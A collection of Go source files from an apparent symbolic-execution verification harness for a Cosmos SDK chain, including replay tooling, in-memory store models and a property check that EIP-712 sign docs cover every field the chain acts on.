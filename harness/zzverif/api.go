// Package zzverif is the harness API of the /verif symbolic executor (gosym).
//
// Every function here has two meanings. Under gosym the calls are intercepted by
// name: Any* return fresh symbolic values, Assume/Assert/Reach talk to the SMT
// solver. Compiled natively (go test -overlay) the same functions read a concrete
// input vector from the JSON file named by VERIF_REPLAY, which is how a solver
// model is replayed against the real build.
package zzverif

import (
	"encoding/json"
	"fmt"
	"math/big"
	"os"
	"strconv"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
)

type replayFile struct {
	Harness string            `json:"harness"`
	Params  map[string]string `json:"params"`
	Model   map[string]string `json:"model"`
	Msg     string            `json:"msg"`
	Kind    string            `json:"kind"`
}

var (
	loaded   bool
	rf       replayFile
	tagSeen  = map[string]int{}
	Failures []string
	Reached  []string
)

// ResetNative re-reads the replay file (used by the generated replay test).
func ResetNative() {
	loaded = false
	tagSeen = map[string]int{}
	Failures = nil
	Reached = nil
	load()
}

func load() {
	if loaded {
		return
	}
	loaded = true
	rf = replayFile{Params: map[string]string{}, Model: map[string]string{}}
	p := os.Getenv("VERIF_REPLAY")
	if p == "" {
		return
	}
	b, err := os.ReadFile(p)
	if err != nil {
		panic(err)
	}
	if err := json.Unmarshal(b, &rf); err != nil {
		panic(err)
	}
	// the node-local time zone is an environment input of the engine (calendar fields of process-local times)
	if v, ok := rf.Model["env.tzOffsetSeconds"]; ok {
		if off, err := strconv.Atoi(v); err == nil {
			time.Local = time.FixedZone("verif", off)
		}
	}
}

// ReplayInfo returns the harness name and expected failure recorded in the replay file.
func ReplayInfo() (harness, kind, msg string) { load(); return rf.Harness, rf.Kind, rf.Msg }

func val(tag string) *big.Int {
	load()
	n := tagSeen[tag]
	tagSeen[tag] = n + 1
	if n > 0 {
		tag = fmt.Sprintf("%s#%d", tag, n)
	}
	s, ok := rf.Model[tag]
	if !ok {
		return big.NewInt(0)
	}
	if s == "true" {
		return big.NewInt(1)
	}
	if s == "false" {
		return big.NewInt(0)
	}
	b, ok := new(big.Int).SetString(s, 10)
	if !ok {
		panic("zzverif: bad model value for " + tag + ": " + s)
	}
	return b
}

// Native reports whether the harness runs natively (replay) rather than under the symbolic executor.
func Native() bool { return true }

// IsLocalTime reports whether t is a wall-clock value in the node's own time zone (time.Unix and friends give such values;
// UTC() does not): what it prints and its calendar fields then depend on where the node runs.
func IsLocalTime(t time.Time) bool { return t.Location() == time.Local }

func AnyInt64(tag string) int64                  { return val(tag).Int64() }
func AnyInt64In(tag string, lo, hi int64) int64   { return val(tag).Int64() }
func AnyUint64(tag string) uint64                { return val(tag).Uint64() }
func AnyUint64In(tag string, lo, hi uint64) uint64 { return val(tag).Uint64() }
func AnyUint32(tag string) uint32                { return uint32(val(tag).Uint64()) }
func AnyBool(tag string) bool                    { return val(tag).Sign() != 0 }

// AnySdkInt: an arbitrary math.Int (|v| < 2^256).
func AnySdkInt(tag string) sdkmath.Int { return sdkmath.NewIntFromBigInt(val(tag)) }

// AnyAmount: an arbitrary math.Int in [0, 2^bits).
func AnyAmount(tag string, bits int) sdkmath.Int { return sdkmath.NewIntFromBigInt(val(tag)) }

// AnyBigAmount: an arbitrary *big.Int in [0, 2^bits).
func AnyBigAmount(tag string, bits int) *big.Int { return val(tag) }

// AnyBig: an arbitrary *big.Int.
func AnyBig(tag string) *big.Int { return val(tag) }

// AnyDecRaw: an arbitrary LegacyDec whose 10^18-scaled integer lies in [lo, hi] (decimal strings).
func AnyDecRaw(tag string, lo, hi string) sdk.Dec {
	return sdkmath.LegacyNewDecFromBigIntWithPrec(val(tag), 18)
}

// AnyCoins: arbitrary coins over the given denominations, each amount in [0, 2^bits) (zero = absent).
func AnyCoins(tag string, bits int, denoms ...string) sdk.Coins {
	cs := sdk.Coins{}
	for _, d := range denoms {
		a := sdkmath.NewIntFromBigInt(val(tag + "." + d))
		if a.IsPositive() {
			cs = cs.Add(sdk.NewCoin(d, a))
		}
	}
	return cs
}

type assumeFailed struct{}

// Assume restricts the inputs. Natively a false assumption means the replay vector is outside the harness domain.
func Assume(c bool) {
	if !c {
		panic(assumeFailed{})
	}
}

// Assert states the property.
func Assert(c bool, msg string) {
	if !c {
		Failures = append(Failures, msg)
		panic(assertFailed{msg})
	}
}

type assertFailed struct{ msg string }

// Reach marks a point that must be reachable (vacuity witness).
func Reach(tag string) { Reached = append(Reached, tag) }

// Choose makes an n-way nondeterministic choice.
func Choose(tag string, n int) int {
	v := val(tag)
	load()
	if s, ok := rf.Params["choose."+tag]; ok {
		i, _ := strconv.Atoi(s)
		return i
	}
	return int(v.Int64())
}

// AllowPanic: Go panics of the code under test end the path quietly instead of being reported.
func AllowPanic() {}

var lastPanic string

// Try runs f and reports whether it panicked.
func Try(f func()) (panicked bool) {
	defer func() {
		if r := recover(); r != nil {
			switch r.(type) {
			case assumeFailed, assertFailed:
				panic(r)
			}
			lastPanic = fmt.Sprint(r)
			panicked = true
		}
	}()
	f()
	return false
}

func LastPanic() string { return lastPanic }

func Param(name, def string) string {
	load()
	if v, ok := rf.Params[name]; ok {
		return v
	}
	return def
}

func ParamInt(name string, def int) int {
	load()
	if v, ok := rf.Params[name]; ok {
		i, err := strconv.Atoi(v)
		if err != nil {
			panic(err)
		}
		return i
	}
	return def
}

func And(bs ...bool) bool {
	for _, b := range bs {
		if !b {
			return false
		}
	}
	return true
}

func Or(bs ...bool) bool {
	for _, b := range bs {
		if b {
			return true
		}
	}
	return false
}

func Implies(a, b bool) bool { return !a || b }
func Iff(a, b bool) bool     { return a == b }

func IteI64(c bool, a, b int64) int64 {
	if c {
		return a
	}
	return b
}

func IteInt(c bool, a, b sdkmath.Int) sdkmath.Int {
	if c {
		return a
	}
	return b
}

func IteCoins(c bool, a, b sdk.Coins) sdk.Coins {
	if c {
		return a
	}
	return b
}

func denomsOf(a, b sdk.Coins) []string {
	m := map[string]bool{}
	var out []string
	for _, c := range a {
		if !m[c.Denom] {
			m[c.Denom] = true
			out = append(out, c.Denom)
		}
	}
	for _, c := range b {
		if !m[c.Denom] {
			m[c.Denom] = true
			out = append(out, c.Denom)
		}
	}
	return out
}

func amt(cs sdk.Coins, d string) sdkmath.Int {
	for _, c := range cs {
		if c.Denom == d {
			return c.Amount
		}
	}
	return sdkmath.ZeroInt()
}

// CoinsEq: equal as vectors (absent == 0).
func CoinsEq(a, b sdk.Coins) bool {
	for _, d := range denomsOf(a, b) {
		if !amt(a, d).Equal(amt(b, d)) {
			return false
		}
	}
	return true
}

// CoinsLTE: component-wise <= (absent == 0).
func CoinsLTE(a, b sdk.Coins) bool {
	for _, d := range denomsOf(a, b) {
		if amt(a, d).GT(amt(b, d)) {
			return false
		}
	}
	return true
}

func CoinsNonNeg(a sdk.Coins) bool {
	for _, c := range a {
		if c.Amount.IsNegative() {
			return false
		}
	}
	return true
}

func BigEq(a, b *big.Int) bool { return a.Cmp(b) == 0 }

// MapOrder switches nondeterministic map iteration order on (engine only).
func MapOrder(on bool) {}

func Note(v interface{}) {}

// Covered records that a real function belongs to the encoded surface (evidence only).
func Covered(name string) {}

// RunNative runs one harness natively and classifies the outcome.
// It returns "ok", "assume-false", "assert:<msg>" or "panic:<msg>".
func RunNative(f func()) (outcome string) {
	ResetNative()
	defer func() {
		if r := recover(); r != nil {
			switch x := r.(type) {
			case assumeFailed:
				outcome = "assume-false"
			case assertFailed:
				outcome = "assert:" + x.msg
			default:
				outcome = "panic:" + fmt.Sprint(r)
			}
		}
	}()
	f()
	return "ok"
}

// ---------------------------------------------------------------- observations (translator validation)

var Observed = map[string]string{}

func ObserveInt64(tag string, v int64)     { Observed[tag] = strconv.FormatInt(v, 10) }
func ObserveUint64(tag string, v uint64)   { Observed[tag] = strconv.FormatUint(v, 10) }
func ObserveBool(tag string, v bool)       { Observed[tag] = strconv.FormatBool(v) }
func ObserveInt(tag string, v sdkmath.Int) { Observed[tag] = v.String() }
func ObserveDec(tag string, v sdk.Dec)     { Observed[tag] = v.BigInt().String() }
func ObserveBig(tag string, v *big.Int)    { Observed[tag] = v.String() }
func ObserveCoins(tag string, v sdk.Coins) {
	for _, c := range v {
		Observed[tag+"."+c.Denom] = c.Amount.String()
	}
}

// AnyDecCoins: arbitrary DecCoins over the given denominations; each 10^18-scaled amount in [0, 2^bits).
func AnyDecCoins(tag string, bits int, denoms ...string) sdk.DecCoins {
	cs := sdk.DecCoins{}
	for _, d := range denoms {
		v := sdkmath.LegacyNewDecFromBigIntWithPrec(val(tag+"."+d), 18)
		if v.IsPositive() {
			cs = cs.Add(sdk.NewDecCoinFromDec(d, v))
		}
	}
	return cs
}

func ObserveDecCoins(tag string, v sdk.DecCoins) {
	for _, c := range v {
		Observed[tag+"."+c.Denom] = c.Amount.BigInt().String()
	}
}
