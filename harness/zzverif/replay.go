package zzverif

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"strings"
)

// ReplayResult is printed (one JSON line, prefixed REPLAY-RESULT) for every replayed vector.
type ReplayResult struct {
	File     string            `json:"file"`
	Harness  string            `json:"harness"`
	Outcome  string            `json:"outcome"`
	Observed map[string]string `json:"observed"`
}

// ReplayMain runs every vector listed in the file named by VERIF_REPLAY_LIST against the natively compiled harnesses.
func ReplayMain(harnesses map[string]func()) {
	list := os.Getenv("VERIF_REPLAY_LIST")
	if list == "" {
		return
	}
	f, err := os.Open(list)
	if err != nil {
		panic(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		path := strings.TrimSpace(sc.Text())
		if path == "" {
			continue
		}
		os.Setenv("VERIF_REPLAY", path)
		loaded = false
		load()
		h, ok := harnesses[rf.Harness]
		if !ok {
			continue
		}
		Observed = map[string]string{}
		out := RunNative(h)
		b, _ := json.Marshal(ReplayResult{File: path, Harness: rf.Harness, Outcome: out, Observed: Observed})
		fmt.Printf("REPLAY-RESULT %s\n", b)
	}
}
