package zzverif

import "github.com/ethereum/go-ethereum/accounts/abi"

//verif:override (github.com/ethereum/go-ethereum/accounts/abi.Arguments).Pack -> AbiPack

// LastPacked holds the Go values most recently handed to abi.Arguments.Pack. Under the symbolic executor ABI byte
// encoding (go-ethereum reflection) is outside every claim: outputs are compared as Go values before packing.
var LastPacked []interface{}

func AbiPack(a abi.Arguments, args ...interface{}) ([]byte, error) {
	LastPacked = args
	return []byte{1}, nil
}
