package zzverif

import (
	storetypes "github.com/cosmos/cosmos-sdk/store/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
)

// Journal gives stub state (Go maps standing for a module's store) the branching behaviour of the context's stores. A
// version counter lives in a real KV store of the context; every write appends an entry and bumps the counter, every read
// first rebuilds the stub state from its base plus the entries visible in that context. State written through a cached
// context that is later discarded therefore disappears with it, and comes into force when the cache is written back -
// exactly like store contents. Histories are linear (one branch at a time), which is all a transaction has.
type Journal struct {
	key     storetypes.StoreKey
	name    []byte
	reset   func() // restores the stub state to its base
	entries []func()
	// OutOfGasAt: index of the write at which the SDK gas meter runs out (-1: never); Writes counts them
	OutOfGasAt int
	Writes     int
}

// NewJournal: key is a KV store key mounted in the context; reset must restore the stub state as it is now.
func NewJournal(key storetypes.StoreKey, name string, reset func()) *Journal {
	return &Journal{key: key, name: []byte("zzverif.journal." + name), reset: reset, OutOfGasAt: -1}
}

func (j *Journal) Version(ctx sdk.Context) int {
	b := ctx.KVStore(j.key).Get(j.name)
	if len(b) == 0 {
		return 0
	}
	return int(b[0])
}

// Sync brings the stub state to what is visible in ctx.
func (j *Journal) Sync(ctx sdk.Context) {
	j.reset()
	for _, e := range j.entries[:j.Version(ctx)] {
		e()
	}
}

// Write performs one write in ctx (apply mutates the stub state). It is also the point where gas may run out.
func (j *Journal) Write(ctx sdk.Context, apply func()) {
	if j.Writes == j.OutOfGasAt {
		j.Writes++
		panic(sdk.ErrorOutOfGas{Descriptor: "harness: gas ran out at a Cosmos-side write"})
	}
	j.Writes++
	n := j.Version(ctx)
	j.entries = append(j.entries[:n], apply)
	ctx.KVStore(j.key).Set(j.name, []byte{byte(n + 1)})
	j.Sync(ctx)
}
