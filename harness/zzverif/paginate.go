package zzverif

import (
	storetypes "github.com/cosmos/cosmos-sdk/store/types"
	"github.com/cosmos/cosmos-sdk/types/query"
)

//verif:override github.com/cosmos/cosmos-sdk/types/query.Paginate -> Paginate

// PaginateDefaultLimit is the page size used when a request names none. The SDK's is 100; the harness world scales it down
// so that "more entries than one default page" is reachable with three entries. Everything else follows the SDK function:
// ascending key order, offset / limit / start key, the key after the page reported as NextKey.
const PaginateDefaultLimit = 2

func Paginate(prefixStore storetypes.KVStore, pageRequest *query.PageRequest, onResult func(key, value []byte) error) (*query.PageResponse, error) {
	if pageRequest == nil {
		pageRequest = &query.PageRequest{}
	}
	if pageRequest.Reverse {
		panic("zzverif.Paginate: reverse pagination is not modelled")
	}
	limit := pageRequest.Limit
	if limit == 0 {
		limit = PaginateDefaultLimit
	}
	it := prefixStore.Iterator(pageRequest.Key, nil)
	defer it.Close()
	var skipped, taken uint64
	res := &query.PageResponse{}
	for ; it.Valid(); it.Next() {
		if len(pageRequest.Key) == 0 && skipped < pageRequest.Offset {
			skipped++
			continue
		}
		if taken == limit {
			res.NextKey = it.Key()
			break
		}
		if err := onResult(it.Key(), it.Value()); err != nil {
			return nil, err
		}
		taken++
	}
	return res, nil
}
