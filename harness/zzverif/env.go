package zzverif

import (
	"bytes"
	"io"
	"sort"

	dbm "github.com/cometbft/cometbft-db"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/codec"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	"github.com/cosmos/cosmos-sdk/std"
	"github.com/cosmos/cosmos-sdk/store"
	storetypes "github.com/cosmos/cosmos-sdk/store/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	paramtypes "github.com/cosmos/cosmos-sdk/x/params/types"
)

//verif:override (github.com/cosmos/cosmos-sdk/x/params/types.Subspace).GetParamSet -> SubspaceGetParamSet
//verif:override (github.com/cosmos/cosmos-sdk/x/params/types.Subspace).GetParamSetIfExists -> SubspaceGetParamSet
//verif:override (github.com/cosmos/cosmos-sdk/x/params/types.Subspace).SetParamSet -> SubspaceSetParamSet
//verif:override (github.com/cosmos/cosmos-sdk/types.Context).KVStore -> CtxKVStore
//verif:override (github.com/cosmos/cosmos-sdk/types.Context).TransientStore -> CtxKVStore

// CtxKVStore replaces Context.KVStore/TransientStore under the symbolic executor: the gas-metering
// wrapper (gaskv) is skipped, the store of the harness multistore is returned directly.
func CtxKVStore(ctx sdk.Context, key storetypes.StoreKey) sdk.KVStore {
	return ctx.MultiStore().GetKVStore(key)
}

// ---------------------------------------------------------------- legacy param subspaces

var paramsKey storetypes.StoreKey

// NewSubspace: natively the real x/params subspace (key table from kt); under the executor a bare subspace whose
// Get/SetParamSet are redirected to SubspaceGet/SetParamSet (the whole set is one typed blob in the "params" store).
func NewSubspace(e *Env, name string, kt func() paramtypes.KeyTable) paramtypes.Subspace {
	if Native() {
		return paramtypes.NewSubspace(Codec(), codec.NewLegacyAmino(), e.Key("params"), e.Key("transient_params"), name).WithKeyTable(kt())
	}
	return paramtypes.NewSubspace(nil, nil, e.Key("params"), e.Key("transient_params"), name)
}

func SubspaceGetParamSet(s paramtypes.Subspace, ctx sdk.Context, ps paramtypes.ParamSet) {
	bz := ctx.MultiStore().GetKVStore(paramsKey).Get([]byte("paramset/" + s.Name()))
	if bz == nil {
		return
	}
	Codec().MustUnmarshal(bz, ps.(codec.ProtoMarshaler))
}

func SubspaceSetParamSet(s paramtypes.Subspace, ctx sdk.Context, ps paramtypes.ParamSet) {
	ctx.MultiStore().GetKVStore(paramsKey).Set([]byte("paramset/"+s.Name()), Codec().MustMarshal(ps.(codec.ProtoMarshaler)))
}

// ---------------------------------------------------------------- MemStore

// MemStore is a plain in-memory sdk.KVStore over concrete keys (values may be typed blobs under the executor).
type MemStore struct {
	m map[string][]byte
}

func NewMemStore() *MemStore { return &MemStore{m: map[string][]byte{}} }

// kvReads counts Get / Has calls on all MemStores: the reads a gas-metered context is charged for (the gas-metering store
// wrapper itself is skipped under the executor). Engine mode only.
var kvReads int

func KVReads() int { return kvReads }

func (s *MemStore) GetStoreType() storetypes.StoreType { return storetypes.StoreTypeDB }
func (s *MemStore) CacheWrap() storetypes.CacheWrap     { panic("MemStore.CacheWrap not modelled") }
func (s *MemStore) CacheWrapWithTrace(w io.Writer, tc storetypes.TraceContext) storetypes.CacheWrap {
	panic("MemStore.CacheWrapWithTrace not modelled")
}
func (s *MemStore) Get(key []byte) []byte {
	if key == nil {
		panic("nil key")
	}
	kvReads++
	v, ok := s.m[string(key)]
	if !ok {
		return nil
	}
	return v
}
func (s *MemStore) Has(key []byte) bool {
	kvReads++
	_, ok := s.m[string(key)]
	return ok
}
func (s *MemStore) Set(key, value []byte) {
	if key == nil || len(key) == 0 {
		panic("nil or empty key")
	}
	if value == nil {
		panic("nil value")
	}
	s.m[string(key)] = value
}
func (s *MemStore) Delete(key []byte) { delete(s.m, string(key)) }

func (s *MemStore) keysIn(start, end []byte) []string {
	var ks []string
	for k := range s.m {
		if start != nil && bytes.Compare([]byte(k), start) < 0 {
			continue
		}
		if end != nil && bytes.Compare([]byte(k), end) >= 0 {
			continue
		}
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

func (s *MemStore) Iterator(start, end []byte) storetypes.Iterator {
	return &memIter{s: s, keys: s.keysIn(start, end), start: start, end: end}
}

func (s *MemStore) ReverseIterator(start, end []byte) storetypes.Iterator {
	ks := s.keysIn(start, end)
	for i, j := 0, len(ks)-1; i < j; i, j = i+1, j-1 {
		ks[i], ks[j] = ks[j], ks[i]
	}
	return &memIter{s: s, keys: ks, start: start, end: end}
}

// Keys returns all keys in order (harness helper).
func (s *MemStore) Keys() []string { return s.keysIn(nil, nil) }

func (s *MemStore) clone() *MemStore {
	n := NewMemStore()
	for k, v := range s.m {
		n.m[k] = v
	}
	return n
}

type memIter struct {
	s          *MemStore
	keys       []string
	pos        int
	start, end []byte
}

func (i *memIter) Domain() ([]byte, []byte) { return i.start, i.end }
func (i *memIter) Valid() bool              { return i.pos < len(i.keys) }
func (i *memIter) Next()                    { i.pos++ }
func (i *memIter) Key() []byte              { return []byte(i.keys[i.pos]) }
func (i *memIter) Value() []byte            { return i.s.m[i.keys[i.pos]] }
func (i *memIter) Error() error             { return nil }
func (i *memIter) Close() error             { return nil }

var _ dbm.Iterator = (*memIter)(nil)

// ---------------------------------------------------------------- MemMS (multistore incl. cache layers)

type MemMS struct {
	stores map[string]*MemStore
	parent *MemMS
}

func NewMemMS(names ...string) *MemMS {
	ms := &MemMS{stores: map[string]*MemStore{}}
	for _, n := range names {
		ms.stores[n] = NewMemStore()
	}
	return ms
}

func (ms *MemMS) GetStoreType() storetypes.StoreType { return storetypes.StoreTypeMulti }
func (ms *MemMS) CacheWrap() storetypes.CacheWrap     { return ms.CacheMultiStore() }
func (ms *MemMS) CacheWrapWithTrace(w io.Writer, tc storetypes.TraceContext) storetypes.CacheWrap {
	return ms.CacheMultiStore()
}
func (ms *MemMS) CacheMultiStore() storetypes.CacheMultiStore {
	c := &MemMS{stores: map[string]*MemStore{}, parent: ms}
	for n, s := range ms.stores {
		c.stores[n] = s.clone()
	}
	return c
}
func (ms *MemMS) CacheMultiStoreWithVersion(version int64) (storetypes.CacheMultiStore, error) {
	return ms.CacheMultiStore(), nil
}
func (ms *MemMS) GetStore(k storetypes.StoreKey) storetypes.Store { return ms.GetKVStore(k) }
func (ms *MemMS) GetKVStore(k storetypes.StoreKey) storetypes.KVStore {
	s, ok := ms.stores[k.Name()]
	if !ok {
		panic("zzverif: store not mounted: " + k.Name())
	}
	return s
}
func (ms *MemMS) TracingEnabled() bool                                         { return false }
func (ms *MemMS) SetTracer(w io.Writer) storetypes.MultiStore                  { return ms }
func (ms *MemMS) SetTracingContext(storetypes.TraceContext) storetypes.MultiStore { return ms }
func (ms *MemMS) LatestVersion() int64                                         { return 0 }

// Write flushes a cache layer into its parent.
func (ms *MemMS) Write() {
	if ms.parent == nil {
		return
	}
	for n, s := range ms.stores {
		ms.parent.stores[n] = s.clone()
	}
}
func (ms *MemMS) Copy() storetypes.CacheMultiStore {
	c := &MemMS{stores: map[string]*MemStore{}, parent: ms.parent}
	for n, s := range ms.stores {
		c.stores[n] = s.clone()
	}
	return c
}

// Store gives direct access to a mounted MemStore (engine mode only).
func (ms *MemMS) Store(name string) *MemStore { return ms.stores[name] }

// ---------------------------------------------------------------- Env

// Env is the execution environment of a keeper harness: an sdk.Context over fresh stores.
// Under the executor the stores are MemStores; natively they are the real SDK in-memory stores.
type Env struct {
	Ctx  sdk.Context
	keys map[string]storetypes.StoreKey
	MS   *MemMS
}

func (e *Env) Key(name string) storetypes.StoreKey { return e.keys[name] }

// NewEnv creates the context with the named KV stores and transient stores mounted.
func NewEnv(kv []string, transient []string) *Env {
	e := &Env{keys: map[string]storetypes.StoreKey{}}
	kv = append(append([]string{}, kv...), "params")
	transient = append(append([]string{}, transient...), "transient_params")
	for _, n := range kv {
		e.keys[n] = storetypes.NewKVStoreKey(n)
	}
	for _, n := range transient {
		e.keys[n] = storetypes.NewTransientStoreKey(n)
	}
	paramsKey = e.keys["params"]
	if Native() {
		db := dbm.NewMemDB()
		cms := store.NewCommitMultiStore(db)
		for _, n := range kv {
			cms.MountStoreWithDB(e.keys[n], storetypes.StoreTypeIAVL, db)
		}
		for _, n := range transient {
			cms.MountStoreWithDB(e.keys[n], storetypes.StoreTypeTransient, nil)
		}
		if err := cms.LoadLatestVersion(); err != nil {
			panic(err)
		}
		e.Ctx = sdk.NewContext(cms, tmproto.Header{}, false, log.NewNopLogger())
		return e
	}
	e.MS = NewMemMS(append(append([]string{}, kv...), transient...)...)
	e.Ctx = sdk.Context{}.WithMultiStore(e.MS).WithGasMeter(storetypes.NewInfiniteGasMeter()).WithEventManager(sdk.NewEventManager())
	return e
}

var nativeCodec codec.Codec

var extraIfaces []func(codectypes.InterfaceRegistry)

// RegisterInterfaces lets a harness add its module's interface registrations to the native codec (before first use).
func RegisterInterfaces(f func(codectypes.InterfaceRegistry)) { extraIfaces = append(extraIfaces, f) }

// Codec returns the binary codec: natively the real protobuf codec; under the executor a typed-blob codec
// (Marshal wraps the message, Unmarshal of a blob of the same type returns it).
// CodecFull is Codec for keepers whose constructor asks for a codec.Codec.
func CodecFull() codec.Codec {
	Codec()
	return nativeCodec
}

func Codec() codec.BinaryCodec {
	if nativeCodec == nil {
		reg := codectypes.NewInterfaceRegistry()
		std.RegisterInterfaces(reg)
		authtypes.RegisterInterfaces(reg)
		for _, f := range extraIfaces {
			f(reg)
		}
		nativeCodec = codec.NewProtoCodec(reg)
	}
	return nativeCodec
}
