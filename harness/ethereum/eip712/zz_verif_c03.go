package eip712

// Harness for property C03, EIP-712 signatures over a SIGN_MODE_DIRECT sign doc: the typed data that is hashed and checked
// against the signature is rebuilt from the sign doc by decodeProtobufSignDoc. Whatever part of the signed transaction the
// chain later acts on must either reach the sign bytes or make the decoding fail - otherwise a third party can change it
// after signing. Amino JSON sign bytes and the typed-data wrapping (JSON, keccak) are recorded, not executed.

import (
	"errors"

	"github.com/cosmos/cosmos-sdk/codec"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	txTypes "github.com/cosmos/cosmos-sdk/types/tx"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	"github.com/cosmos/cosmos-sdk/x/auth/migrations/legacytx"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/signer/core/apitypes"

	haqqtypes "github.com/haqq-network/haqq/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override github.com/haqq-network/haqq/ethereum/eip712.validateCodecInit -> c03CodecInit
//verif:override (*github.com/cosmos/cosmos-sdk/codec.ProtoCodec).UnpackAny -> c03UnpackAny
//verif:override github.com/cosmos/cosmos-sdk/x/auth/migrations/legacytx.StdSignBytes -> c03StdSignBytes
//verif:override github.com/haqq-network/haqq/ethereum/eip712.WrapTxToTypedData -> c03Wrap

var c03 struct {
	called  bool
	chainID string
	accnum  uint64
	seq     uint64
	timeout uint64
	fee     legacytx.StdFee
	msgs    []sdk.Msg
	memo    string
	tip     *txTypes.Tip
}

func c03CodecInit() error { return nil }
func c03UnpackAny(pc *codec.ProtoCodec, any *codectypes.Any, iface interface{}) error {
	m, ok := any.GetCachedValue().(sdk.Msg)
	if !ok {
		return errors.New("not a message")
	}
	*(iface.(*sdk.Msg)) = m
	return nil
}
func c03StdSignBytes(chainID string, accnum, sequence, timeout uint64, fee legacytx.StdFee, msgs []sdk.Msg, memo string, tip *txTypes.Tip) []byte {
	c03.called = true
	c03.chainID, c03.accnum, c03.seq, c03.timeout, c03.fee, c03.msgs, c03.memo, c03.tip = chainID, accnum, sequence, timeout, fee, msgs, memo, tip
	return []byte{1}
}
func c03Wrap(chainID uint64, data []byte) (apitypes.TypedData, error) { return apitypes.TypedData{}, nil }

// VerifC03_Eip712DirectCoverage: if a SIGN_MODE_DIRECT sign doc is accepted for EIP-712 verification, every field of it that
// the chain acts on (chain id, account number, sequence, messages, memo, timeout height, fee amount / gas / payer / granter,
// extension options) is handed to the sign bytes - nothing is silently dropped.
func VerifC03_Eip712DirectCoverage() {
	from := sdk.AccAddress([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	to := sdk.AccAddress([]byte{2, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	other := sdk.AccAddress([]byte{3, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	send := banktypes.NewMsgSend(from, to, sdk.NewCoins(sdk.NewCoin("aISLM", zz.AnyAmount("sendAmount", 64))))
	anyMsg, err := codectypes.NewAnyWithValue(send)
	if err != nil {
		panic(err)
	}
	body := &txTypes.TxBody{Messages: []*codectypes.Any{anyMsg}, Memo: []string{"", "memo"}[zz.Choose("memo", 2)], TimeoutHeight: zz.AnyUint64("timeoutHeight")}
	ext, err := codectypes.NewAnyWithValue(banktypes.NewMsgSend(to, from, sdk.NewCoins())) // stands for any extension option value
	if err != nil {
		panic(err)
	}
	dyn, err := codectypes.NewAnyWithValue(&haqqtypes.ExtensionOptionDynamicFeeTx{MaxPriorityPrice: zz.AnyAmount("maxPriorityPrice", 64)})
	if err != nil {
		panic(err)
	}
	switch zz.Choose("extensionOptions", 5) {
	case 1:
		body.ExtensionOptions = []*codectypes.Any{ext}
	case 2:
		body.NonCriticalExtensionOptions = []*codectypes.Any{ext}
	case 3: // the dynamic-fee option the ante handler acts on (it caps the priority fee)
		body.ExtensionOptions = []*codectypes.Any{dyn}
	case 4:
		body.NonCriticalExtensionOptions = []*codectypes.Any{dyn}
	}
	gas := zz.AnyUint64("gasLimit")
	feeAmt := zz.AnyAmount("feeAmount", 100)
	fee := &txTypes.Fee{Amount: sdk.Coins{sdk.Coin{Denom: "aISLM", Amount: feeAmt}}, GasLimit: gas}
	if zz.AnyBool("payerSet") {
		fee.Payer = other.String()
	}
	if zz.AnyBool("granterSet") {
		fee.Granter = other.String()
	}
	seq := zz.AnyUint64("sequence")
	authInfo := &txTypes.AuthInfo{Fee: fee, SignerInfos: []*txTypes.SignerInfo{{ModeInfo: &txTypes.ModeInfo{Sum: &txTypes.ModeInfo_Single_{Single: &txTypes.ModeInfo_Single{Mode: signing.SignMode_SIGN_MODE_DIRECT}}}, Sequence: seq}}}
	bodyBz, err := body.Marshal()
	if err != nil {
		panic(err)
	}
	authBz, err := authInfo.Marshal()
	if err != nil {
		panic(err)
	}
	accnum := zz.AnyUint64("accountNumber")
	doc := &txTypes.SignDoc{BodyBytes: bodyBz, AuthInfoBytes: authBz, ChainId: "haqq_11235-1", AccountNumber: accnum}
	docBz, err := doc.Marshal()
	if err != nil {
		panic(err)
	}
	c03.called = false
	protoCodec = codec.NewProtoCodec(nil) // UnpackAny is redirected (the cached value of the Any is the message)
	_, derr := decodeProtobufSignDoc(docBz)
	if derr != nil {
		zz.Assert(!c03.called, "a refused sign doc produces no sign bytes")
		zz.Reach("refused")
		zz.Reach("end")
		return
	}
	zz.Reach("accepted")
	zz.Assert(c03.called, "an accepted sign doc is turned into sign bytes")
	zz.Assert(c03.chainID == "haqq_11235-1" && c03.accnum == accnum && c03.seq == seq, "chain id, account number and sequence of the sign doc are signed")
	zz.Assert(c03.memo == body.Memo && c03.timeout == body.TimeoutHeight, "memo and timeout height are signed")
	zz.Assert(len(c03.msgs) == 1, "the messages are signed")
	if got, ok := c03.msgs[0].(*banktypes.MsgSend); ok {
		zz.Assert(got.FromAddress == send.FromAddress && got.ToAddress == send.ToAddress && got.Amount.AmountOf("aISLM").Equal(send.Amount.AmountOf("aISLM")), "the messages are signed with their content")
	} else {
		zz.Assert(false, "the signed message is the message of the sign doc")
	}
	zz.Assert(c03.fee.Gas == gas && len(c03.fee.Amount) == 1 && c03.fee.Amount[0].Amount.Equal(feeAmt), "fee amount and gas limit are signed")
	zz.Assert(c03.fee.Payer == fee.Payer && c03.fee.Granter == fee.Granter, "fee payer and granter are signed (or the sign doc is refused): nobody can set them afterwards")
	zz.Assert(len(body.ExtensionOptions) == 0 && len(body.NonCriticalExtensionOptions) == 0, "extension options cannot be represented: a sign doc carrying them is refused")
	zz.Reach("end")
}
