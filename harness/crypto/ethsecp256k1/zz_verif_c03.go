package ethsecp256k1

